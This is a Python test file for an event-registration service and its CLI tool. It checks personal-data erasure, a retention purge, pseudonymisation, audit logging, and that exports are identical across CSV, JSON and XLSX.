    rows = by_id(csv_rows(export(sdaemon, token, ev1["slug"])))
    assert set(rows) == {keep["id"]}, "the erased row is gone, others stay"

    after = reach(sdaemon, token, past)
    assert after == before, "the reach report counts the past the same"

    left = pg.psql("SELECT name IS NULL AND given_name IS NULL AND family_name"
                   " IS NULL AND email IS NULL AND email_norm IS "
                   "NULL AND organisation IS NULL AND enterprise_number IS "
                   "NULL, person_hash IS NOT NULL, role, postcode,"
                   " checked_in_at IS NOT NULL FROM registrations"
                   " WHERE id IN (%d, %d) ORDER BY id" % (a["id"], b["id"]))
    assert left == [["t", "t", "employer", "8900", "t"],
                    ["t", "t", "employer", "8630", "f"]]
    hashes = pg.psql("SELECT DISTINCT encode(person_hash, 'hex') FROM "
                     "registrations WHERE id IN (%d, %d)" % (a["id"], b["id"]))
    assert len(hashes) == 1, "one pseudonym for one person"
    dump = json.dumps(pg.psql("SELECT * FROM idempotency_keys"))
    assert email not in dump.lower() and name not in dump and given not in dump
    assert pg.psql("SELECT count(*) FROM idempotency_keys WHERE"
                   " registration_id = %d" % a["id"]) == [["0"]], \
        "the erased registration's Idempotency-Key answer is kept"
    view = assert_json(sdaemon.get("/api/v1/registrations/" + a["_token"]), 200)
    assert [view.get(k) for k in ("email", "name", "given_name", "family_name")] \
        == [None] * 4

    audit = pg.psql("SELECT actor, action, detail::text FROM audit_log "
                    "WHERE action = 'erasure' ORDER BY id DESC LIMIT 1")
    assert audit[0][1] == "erasure" and json.loads(audit[0][2]) == \
        {"registrations": 2, "seats_freed": 1}
    assert email not in json.dumps(pg.psql("SELECT * FROM audit_log")).lower()
    assert email not in sdaemon.stderr_text().lower()
    assert name not in sdaemon.stderr_text()
    assert given not in sdaemon.stderr_text()

    again = sdaemon.post("/api/v1/erasure", token=token, json={"email": email})
    assert assert_json(again, 200) == {"erased": 0, "seats_freed": 0}
    # the address may register again for the event it left
    register(sdaemon, ev2["slug"], email=email)
    assert reach(sdaemon, token, year)["total"]["people"] == 1


def test_erasure_refusals(daemon, sdaemon, token):
    p = assert_problem(sdaemon.post("/api/v1/erasure", token=token,
                                    json={"email": "geen adres",
                                          "name": "x"}), 422)
    assert {"email", "name"} <= error_fields(p)
    assert_problem(sdaemon.post("/api/v1/erasure", token=token, json={}), 422)
    assert_problem(sdaemon.post("/api/v1/erasure", token=token,
                                data="email=x", headers={
                                    "Content-Type": "text/plain"}), 415)
    # without an erasure secret the daemon refuses rather than weaken it:
    # 503, a service this server is not set up for, and no Retry-After,
    # since waiting does not help
    r = daemon.post("/api/v1/erasure", token=token, json={"email": "a@example.be"})
    p = assert_problem(r, 503)
    assert "Retry-After" not in r.headers
    assert "erasure_secret" in p["detail"]
    assert p["type"].endswith("/erasure-not-configured")


def test_a_short_erasure_secret_is_refused(start_daemon):
    d = start_daemon(env={"LEERKANS_ERASURE_SECRET": "short"}, wait=False)
    assert d.wait_exit() != 0
    assert "erasure_secret" in d.stderr_text()


# -- leerkansctl ----------------------------------------------------------------

def test_ctl_export_matches_the_api(daemon, token, ctl, new_event, workdir):
    ev = new_event()
    for i in range(3):
        register(daemon, ev["slug"], name="=Ctl %d" % i)
    api = export(daemon, token, ev["slug"]).content
    out = ctl("export", ev["slug"])  # text mode: CRLF read as LF
    assert out.stdout == api.decode("utf-8").replace("\r\n", "\n")
    js = json.loads(ctl("export", ev["slug"], "--format", "json").stdout)
    assert js["count"] == 3
    path = os.path.join(workdir, "%s.xlsx" % ev["slug"])
    ctl("export", ev["slug"], "--format", "xlsx", "-o", path)
    assert os.stat(path).st_mode & 0o077 == 0, "only its owner may read it"
    ws = openpyxl.load_workbook(path).worksheets[0]
    assert ws.max_row == 4 and ws["C2"].value.startswith("=Ctl")
    semi = ctl("export", ev["slug"], "--delimiter", "semicolon").stdout
    assert semi.startswith("\ufeffid;status;")
    bad = ctl("export", unique("nope"), check=False)
    assert bad.returncode == 1 and "no such event" in bad.stderr


def test_ctl_and_http_export_the_same_list(daemon, token, ctl, pg, workdir):
    """leerkansd and leerkansctl write exports with one row loop
    (db/export_rows.c) over one cursor statement: the same bytes for CSV,
    both delimiters, and JSON, the same cells in XLSX, for hostile values
    and past the first batch of 1000 rows."""
    ev, want = hostile_event(daemon, token, pg)
    slug = ev["slug"]
    s1 = assert_json(daemon.post("/api/v1/events/%s/sessions" % slug,
                                 token=token, json=session_body(capacity=1)),
                     201)["slug"]
    a = register(daemon, slug, name="Éliaerts; \"Anna\"", sessions=[s1])
    register(daemon, slug, name="Zeeman, Bert", sessions=[s1])
    mark_attended(pg, a["id"])
    pg.psql("INSERT INTO registrations (event_id, token_hash, status,"
            " given_name, family_name,"
            " email, email_norm, organisation, role, organisation_type,"
            " postcode, consented_at)"
            " SELECT r.event_id, sha256(convert_to(r.email || i, 'UTF8')),"
            " r.status, 'Deelnemer', 'Kopie ' || i,"
            " 'kopie' || i || '@example.be',"
            " 'kopie' || i || '@example.be', r.organisation, r.role,"
            " r.organisation_type, r.postcode, r.consented_at"
            " FROM registrations r, generate_series(1, 1000) AS i"
            " WHERE r.id = %d" % a["id"])
    cases = [("csv", ()), ("csv", ("delimiter", "semicolon")),
             ("json", ()), ("json", ("session", s1)),
             ("json", ("status", "all")), ("xlsx", ())]
    for fmt, opt in cases:
        path = os.path.join(workdir, "%s.%s" % (unique("both"), fmt))
        args = ["export", slug, "--format", fmt, "-o", path]
        if opt:
            args += ["--" + opt[0], opt[1]]
        ctl(*args)
        with open(path, "rb") as f:
            mine = f.read()
        r = export(daemon, token, slug, fmt=fmt, **dict([opt] if opt else []))
        assert r.status_code == 200, describe(r)
        if fmt == "xlsx":
            cells = [[[c.value for c in row] for row in
                      openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
                      .iter_rows()] for data in (r.content, mine)]
            assert cells[0] == cells[1]
            assert len(cells[1]) == 1 + len(want) + 2 + 1000
        else:
            assert r.content == mine, (fmt, opt)
        if (fmt, opt) == ("json", ()):
            doc = json.loads(mine)
            assert doc["count"] == len(doc["attendees"]) == \
                len(want) + 2 + 1000


def test_ctl_report_reach_prints_a_table(daemon, token, ctl):
    year = 2044
    ev = make_event(daemon, token, year=year, kind="sme-info-session",
                    capacity=None)
    for pc in ("8900", "8630", "8600"):
        register(daemon, ev["slug"], postcode=pc)
    out = ctl("report", "reach", "--year", str(year),
              env={"LEERKANS_ERASURE_SECRET": SECRET}).stdout
    assert "De teller loopt" in out and str(year) in out
    lines = out.splitlines()
    header = [l for l in lines if l.split()[-1:] == ["total"]][0].split()
    assert set(header) == {"network-event", "academy-session",
                           "sme-info-session", "total"}, header

    def row(label):
        found = [l for l in lines if l.strip().startswith(label)]
        assert found, (label, out)
        return dict(zip(header, found[0].split()[-len(header):]))
    west = row("Westhoek")
    assert west["total"] == "3" and west["sme-info-session"] == "3", out
    assert west["network-event"] == "0"
    assert row("Registrations")["total"] == "3"
    assert row("Ieper")["total"] == "1" and row("Veurne")["total"] == "1"
    text = ctl("report", "reach", "--year", str(year), "--json",
               env={"LEERKANS_ERASURE_SECRET": SECRET}).stdout
    js = json.loads(text)
    assert js["total"]["westhoek"] == 3
    # the bytes leerkansd answers (a token and a secret like the test's)
    api = daemon.get("/api/v1/stats/reach?year=%d" % year, token=token)
    assert compact_json_text(text) is None, text
    assert json.loads(api.text).keys() == js.keys()


def test_ctl_purge_erases_what_is_past_retention(sdaemon, token, ctl, pg):
    ev = make_event(sdaemon, token, capacity=None)
    recent = make_event(sdaemon, token, capacity=None)
    emails = ["%s@example.be" % unique("oud") for _ in range(3)]
    for e in emails:
        register(sdaemon, ev["slug"], email=e, name="Oud Deelnemer")
    fresh = register(sdaemon, recent["slug"], name="Recent Deelnemer")
    # the event took place 30 months ago; the other one 1 month ago
    pg.psql("UPDATE events SET starts_at = now() - interval '30 months',"
            " ends_at = now() - interval '30 months' + interval '3 hours'"
            " WHERE slug = '%s'" % ev["slug"])
    pg.psql("UPDATE events SET starts_at = now() - interval '1 month',"
            " ends_at = now() - interval '1 month' + interval '3 hours'"
            " WHERE slug = '%s'" % recent["slug"])
    year = int(pg.psql("SELECT extract(year FROM starts_at AT TIME ZONE "
                       "'Europe/Brussels') FROM events WHERE slug = '%s'"
                       % ev["slug"])[0][0])
    before = reach(sdaemon, token, year)

    nosecret = ctl("purge", check=False)
    assert nosecret.returncode == 1 and "erasure_secret" in nosecret.stderr
    dry = ctl("purge", "--dry-run").stdout
    assert re.search(r"would erase [1-9][0-9]* registrations", dry), dry
    pg.psql("INSERT INTO idempotency_keys (key, request_hash, registration_id,"
            " sealed, created_at) SELECT k, '\\x00', %d, '\\x00', t FROM"
            " (VALUES ('purge-old', now() - interval '3 days'), ('purge-new',"
            " now())) AS v (k, t)" % fresh["id"])
    out = ctl("purge", env={"LEERKANS_ERASURE_SECRET": SECRET}).stdout
    assert re.search(r"erased [1-9][0-9]* registrations", out), out
    assert pg.psql("SELECT key FROM idempotency_keys WHERE key LIKE"
                   " 'purge-%' ORDER BY key") == [["purge-new"]], \
        "expired Idempotency-Key answers outlive purge"
    left = pg.psql("SELECT count(*) FROM registrations r JOIN events e ON "
                   "e.id = r.event_id WHERE e.slug = '%s' AND r.erased_at "
                   "IS NULL" % ev["slug"])
    assert left == [["0"]]
    assert pg.psql("SELECT erased_at IS NULL FROM registrations WHERE id = %d"
                   % fresh["id"]) == [["t"]], "24 months are not over"
    assert reach(sdaemon, token, year) == before
    text = export(sdaemon, token, ev["slug"], status="all").text
    assert all(e not in text for e in emails)
    audit = pg.psql("SELECT actor, detail->>'retention_months' FROM audit_log "
                    "WHERE action = 'purge' ORDER BY id DESC LIMIT 1")
    assert audit[0][0].startswith("leerkansctl (") and audit[0][1] == "24"
    again = ctl("purge", env={"LEERKANS_ERASURE_SECRET": SECRET}).stdout
    assert again.startswith("erased 0 registrations")


def test_ready_with_the_organiser_schema(daemon):
    assert daemon.get("/readyz").status_code == 200
